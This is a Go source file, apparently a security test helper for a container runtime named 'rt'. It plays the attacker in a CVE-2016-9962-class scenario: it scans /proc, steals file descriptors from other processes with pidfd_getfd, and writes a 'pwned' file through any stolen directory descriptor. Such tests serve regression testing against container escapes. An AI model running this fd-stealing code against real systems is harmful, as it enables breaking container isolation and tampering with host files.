// fdthief runs inside a test container as the attacker of the
// CVE-2016-9962 class: for a while it looks at every other process in the
// container's pid namespace and tries to take each of its fds with
// pidfd_getfd (which needs ptrace rights over the target). A directory fd
// it gets is used to create the file "pwned" there. It prints "GOT pid fd"
// for any fd taken from one of rt's own set-up processes (argv[0] "rt"),
// and "STOLE pid fd path" for each directory fd it could write through.
package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	deadline := time.Now().Add(30 * time.Second)
	if len(os.Args) > 1 {
		if d, err := time.ParseDuration(os.Args[1]); err == nil {
			deadline = time.Now().Add(d)
		}
	}
	fmt.Println("thief ready")
	self := os.Getpid()
	for time.Now().Before(deadline) {
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self || pid == 1 {
				continue
			}
			steal(pid)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

var reported = map[int]bool{}

func steal(pid int) {
	pidfd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return
	}
	defer unix.Close(pidfd)
	cmdline, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/cmdline")
	isRt := strings.HasPrefix(string(cmdline), "rt\x00")
	for fd := 0; fd < 64; fd++ {
		got, err := unix.PidfdGetfd(pidfd, fd, 0)
		if err != nil {
			continue
		}
		if isRt && !reported[pid] {
			reported[pid] = true
			fmt.Printf("GOT %d %d\n", pid, fd)
		}
		var st unix.Stat_t
		if unix.Fstat(got, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFDIR {
			path, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(got))
			if w, err := unix.Openat(got, "pwned", unix.O_CREAT|unix.O_WRONLY, 0o644); err == nil {
				unix.Close(w)
				fmt.Printf("STOLE %d %d %s\n", pid, fd, path)
				os.Exit(0)
			}
		}
		unix.Close(got)
	}
}
